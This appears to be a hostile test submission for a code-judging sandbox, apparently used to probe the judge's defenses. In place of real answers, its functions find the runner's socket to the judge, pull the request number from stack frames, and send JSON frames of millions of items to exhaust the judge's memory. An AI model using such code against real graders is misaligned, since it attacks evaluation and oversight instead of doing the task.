"""Answers with a list of ten million items in a header that is just allowed. Success: the judge takes the memory."""

import json
import os
import stat
import struct
import sys


def channel():
    """The descriptor of the runner's channel to the judge."""
    for number in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                return number
        except OSError:
            continue


def asked():
    """The number of the question that is being answered."""
    frame = sys._getframe()
    while frame is not None:
        if isinstance(frame.f_locals.get("request"), dict):
            return frame.f_locals["request"].get("seq", 0)
        frame = frame.f_back
    return 0


def send(header, body=b"", announced=None):
    """Write a frame by hand."""
    data = header if isinstance(header, bytes) else json.dumps(header).encode()
    sizes = announced or (len(data), len(body))
    data = struct.pack(">IQ", *sizes) + data + body
    while data:
        data = data[os.write(channel(), data) :]


def double(x, factor):
    item = b"[]," if x.shape[0] == 2 else b"{},"
    data = b'{"seq": %d, "value": {"list": [' % asked() + item * 5_000_000 + b"1]}}"
    send(data)
    os._exit(0)


def back(cache):
    send(b'{"seq": %d, "value": {"list": [' % asked() + b"1," * 1_000_000 + b"1]}}")
    os._exit(0)
